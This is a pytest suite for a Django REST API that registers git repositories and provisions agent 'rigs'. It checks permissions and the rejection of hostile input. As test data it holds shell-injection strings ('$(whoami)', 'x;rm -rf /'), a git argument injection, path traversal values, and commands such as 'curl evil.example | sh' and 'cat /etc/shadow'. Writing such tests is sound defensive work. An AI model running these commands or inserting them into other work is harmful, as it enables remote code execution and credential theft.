"""Repositories and rigs through the REST API: happy paths and hostile input."""

import os

import pytest
from django.contrib.auth.models import Group
from rest_framework.test import APIClient

from events.models import Event
from rigs import services
from rigs.models import Repository, Rig
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def operator(django_user_model):
    user = django_user_model.objects.create_user("op", password="pw-123456789")
    user.groups.add(Group.objects.get_or_create(name="operator")[0])
    client = APIClient()
    client.force_login(user)
    return client


@pytest.fixture
def viewer(django_user_model):
    user = django_user_model.objects.create_user("viewer", password="pw-123456789")
    user.groups.add(Group.objects.get_or_create(name="viewer")[0])
    client = APIClient()
    client.force_login(user)
    return client


def agent_client(name="claude-1"):
    agent, token = services.agent_create(name=name)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    return agent, client


def error_of(response):
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message", "field", "errors"}
    return body["error"]


def test_register_repository(operator, git_repo):
    response = operator.post(
        "/api/v1/repositories/",
        {"name": "app", "path": str(git_repo), "target_branch": "main", "batch_size": 3},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert response.json()["path"] == str(git_repo.resolve())
    assert Repository.objects.get(name="app").batch_size == 3


@pytest.mark.parametrize(
    ("path_of", "field", "fragment"),
    [
        (lambda repo, root: "/etc", "path", "outside the repository roots"),
        (lambda repo, root: f"{root}/../../etc", "path", "outside the repository roots"),
        (lambda repo, root: "relative/path", "path", "absolute"),
        (lambda repo, root: f"{root}/missing", "path", "does not exist"),
        (lambda repo, root: f"{root}/link-out", "path", "outside the repository roots"),
        (lambda repo, root: f"{root}/plain-dir", "path", "not a git repository"),
    ],
    ids=["etc", "dotdot", "relative", "missing", "symlink", "not-git"],
)
def test_register_refuses_bad_paths(operator, git_repo, repo_root, path_of, field, fragment):
    os.symlink("/tmp", repo_root / "link-out")
    (repo_root / "plain-dir").mkdir()
    response = operator.post(
        "/api/v1/repositories/",
        {"name": "x", "path": path_of(git_repo, repo_root)},
        format="json",
    )
    assert response.status_code == 400
    error = error_of(response)
    assert error["field"] == field and fragment in error["message"], error
    assert not Repository.objects.exists()


def test_register_refuses_missing_branch_and_bad_names(operator, git_repo):
    response = operator.post(
        "/api/v1/repositories/",
        {"name": "app", "path": str(git_repo), "target_branch": "trunk"},
        format="json",
    )
    assert response.status_code == 400 and error_of(response)["field"] == "target_branch"
    for name in ["-rf", "a b", "$(whoami)", "UPPER", "x;rm"]:
        response = operator.post(
            "/api/v1/repositories/", {"name": name, "path": str(git_repo)}, format="json"
        )
        assert response.status_code == 400, name
        assert error_of(response)["field"] == "name"


def test_viewer_cannot_register(viewer, git_repo):
    response = viewer.post(
        "/api/v1/repositories/", {"name": "app", "path": str(git_repo)}, format="json"
    )
    assert response.status_code == 403


def test_unauthenticated_is_refused():
    assert APIClient().get("/api/v1/rigs/").status_code == 401
    bad = APIClient()
    bad.credentials(HTTP_AUTHORIZATION="Token nope")
    response = bad.get("/api/v1/rigs/")
    assert response.status_code == 401 and "Invalid" in error_of(response)["message"]


def test_agent_requests_its_own_rig(git_repo, django_capture_on_commit_callbacks):
    repository = services.repository_register(name="app", path=str(git_repo))
    agent, client = agent_client()
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(
            "/api/v1/rigs/",
            {"slug": "api", "repository": repository.id, "scope": ["auth/**"]},
            format="json",
        )
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["agent"] == agent.name and body["state"] == "requested"
    assert body["branch"] == "rig/api" and body["scope"] == ["auth/**"]
    assert len(callbacks) >= 1  # provisioning is enqueued after commit, not run in the request


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"slug": "-rf"}, "slug"),
        ({"slug": "a..b"}, "slug"),
        ({"slug": "a b"}, "slug"),
        ({"slug": "x;rm -rf /"}, "slug"),
        ({"slug": "$(touch pwned)"}, "slug"),
        ({"slug": "ok", "base_ref": "--upload-pack=evil"}, "base_ref"),
        ({"slug": "ok", "base_ref": "main..x"}, "base_ref"),
        ({"slug": "ok", "scope": ["../outside"]}, "scope"),
        ({"slug": "ok", "scope": ["/etc/**"]}, "scope"),
        ({"slug": "ok", "sparse": True}, "sparse"),
        ({"slug": "ok", "scope": "not-a-list"}, "scope"),
    ],
)
def test_rig_request_refuses_hostile_input(git_repo, payload, field):
    repository = services.repository_register(name="app", path=str(git_repo))
    _, client = agent_client()
    response = client.post("/api/v1/rigs/", {"repository": repository.id, **payload}, format="json")
    assert response.status_code == 400, response.json()
    assert error_of(response)["field"] == field
    assert not Rig.objects.exists()


def test_duplicate_slug_is_a_clear_400(git_repo):
    repository = services.repository_register(name="app", path=str(git_repo))
    _, client = agent_client()
    client.post("/api/v1/rigs/", {"repository": repository.id, "slug": "api"}, format="json")
    response = client.post(
        "/api/v1/rigs/", {"repository": repository.id, "slug": "api"}, format="json"
    )
    assert response.status_code == 400
    assert "already exists" in error_of(response)["message"]


def test_agents_act_only_on_their_own_rigs(git_repo):
    owner, owner_client = agent_client("owner")
    _, other_client = agent_client("other")
    rig = factories.rig(agent=owner, state=Rig.State.READY)
    assert other_client.post(f"/api/v1/rigs/{rig.id}/heartbeat/").status_code == 403
    assert other_client.post(f"/api/v1/rigs/{rig.id}/teardown/", {}).status_code == 403
    assert other_client.get(f"/api/v1/rigs/{rig.id}/").status_code == 200  # reading is fine
    response = owner_client.post(f"/api/v1/rigs/{rig.id}/heartbeat/")
    assert response.status_code == 200 and response.json()["state"] == "working"
    assert owner_client.post("/api/v1/rigs/999999/heartbeat/").status_code == 404


def test_teardown_refusal_names_the_work(git_repo):
    owner, client = agent_client("owner")
    rig = factories.rig(agent=owner, state=Rig.State.WORKING, ahead=3, dirty=True)
    response = client.post(f"/api/v1/rigs/{rig.id}/teardown/", {}, format="json")
    assert response.status_code == 409
    error = error_of(response)
    assert error["code"] == "lost_work" and "3 commit(s)" in error["message"]
    assert "uncommitted" in error["message"]
    rig.refresh_from_db()
    assert rig.state == Rig.State.WORKING


def test_retry_of_a_ready_rig_is_a_409(git_repo):
    owner, client = agent_client("owner")
    rig = factories.rig(agent=owner, state=Rig.State.READY)
    response = client.post(f"/api/v1/rigs/{rig.id}/retry/")
    assert response.status_code == 409
    assert "cannot go from 'ready' to 'requested'" in error_of(response)["message"]


def test_rig_list_query_count_is_bounded(operator, django_assert_max_num_queries):
    repository = factories.repository()
    for i in range(30):
        factories.rig(repository=repository, slug=f"r{i}")
    with django_assert_max_num_queries(6):
        response = operator.get("/api/v1/rigs/")
    assert response.status_code == 200 and response.json()["count"] == 30


def test_patch_only_changes_agent_settings(git_repo):
    owner, client = agent_client("owner")
    rig = factories.rig(agent=owner)
    response = client.patch(f"/api/v1/rigs/{rig.id}/", {"notify_level": "important"}, format="json")
    assert response.status_code == 200 and response.json()["notify_level"] == "important"
    response = client.patch(f"/api/v1/rigs/{rig.id}/", {"slug": "renamed"}, format="json")
    assert response.status_code == 400 and error_of(response)["field"] == "slug"
    assert Rig.objects.get(pk=rig.pk).slug == rig.slug


def test_patch_goes_through_the_service_and_appends_its_event(git_repo):
    owner, client = agent_client("owner")
    rig = factories.rig(agent=owner)
    response = client.patch(
        f"/api/v1/rigs/{rig.id}/", {"notify_level": "muted", "role": "docs"}, format="json"
    )
    assert response.status_code == 200
    assert (response.json()["notify_level"], response.json()["role"]) == ("muted", "docs")
    events = list(Event.objects.filter(kind="rig.updated").values_list("payload", "rig_id"))
    assert events == [
        ({"rig": rig.id, "slug": rig.slug, "fields": ["notify_level", "role"]}, rig.id)
    ]


# --- commands the server runs are set by admins only (issue 15, item 2) ---------------------


COMMAND_VALUES = {
    "gate_command": "curl evil.example | sh",
    "setup_command": "cat /etc/shadow",
    "copy_files": [".env"],
    "link_files": ["secrets"],
}


@pytest.mark.parametrize("field", sorted(COMMAND_VALUES))
def test_operator_cannot_register_a_repository_with_a_command(operator, git_repo, field):
    body = {"name": "app", "path": str(git_repo), field: COMMAND_VALUES[field]}
    response = operator.post("/api/v1/repositories/", body, format="json")
    assert response.status_code == 403
    error = error_of(response)
    first = {"code": "permission_denied", "message": error["message"], "field": field}
    assert error == {**first, "errors": [first]}
    assert field in error["message"] and "admin" in error["message"]
    assert not Repository.objects.exists()


@pytest.mark.parametrize("field", sorted(COMMAND_VALUES))
def test_operator_cannot_set_a_command_even_with_bad_other_input(operator, field):
    """The 403 comes first: a refused command is not hidden behind a 400 on another field."""
    body = {"name": "-bad-", "path": "relative", field: COMMAND_VALUES[field]}
    response = operator.post("/api/v1/repositories/", body, format="json")
    assert response.status_code == 403 and error_of(response)["field"] == field


def test_operator_may_send_the_command_fields_empty(operator, git_repo):
    body = {"name": "app", "path": str(git_repo), "gate_command": "", "copy_files": []}
    response = operator.post("/api/v1/repositories/", body, format="json")
    assert response.status_code == 201, response.json()


def test_admin_may_set_commands_through_the_api(django_user_model, git_repo):
    staff = django_user_model.objects.create_user("staff", password="pw-123456789", is_staff=True)
    client = APIClient()
    client.force_login(staff)
    body = {"name": "app", "path": str(git_repo), **COMMAND_VALUES}
    response = client.post("/api/v1/repositories/", body, format="json")
    assert response.status_code == 201, response.json()
    repository = Repository.objects.get(name="app")
    assert repository.gate_command == COMMAND_VALUES["gate_command"]
    assert repository.link_files == ["secrets"]


@pytest.mark.parametrize("field", [*sorted(COMMAND_VALUES), "runtime_command"])
def test_no_rig_endpoint_takes_a_command(operator, field):
    """Agents' runtime command (and any other command field) cannot ride along on a rig's
    POST or PATCH, from an operator or from the rig's own agent."""
    owner, agent = agent_client("owner")
    rig = factories.rig(agent=owner)
    value = COMMAND_VALUES.get(field, "sh -c 'id'")
    for client in (operator, agent):
        response = client.patch(f"/api/v1/rigs/{rig.id}/", {field: value}, format="json")
        assert response.status_code == 403, response.json()
        assert error_of(response)["field"] == field
        body = {"slug": "new", "repository": rig.repository_id, field: value}
        response = client.post("/api/v1/rigs/", body, format="json")
        assert response.status_code == 403 and error_of(response)["field"] == field
    assert not Rig.objects.filter(slug="new").exists()
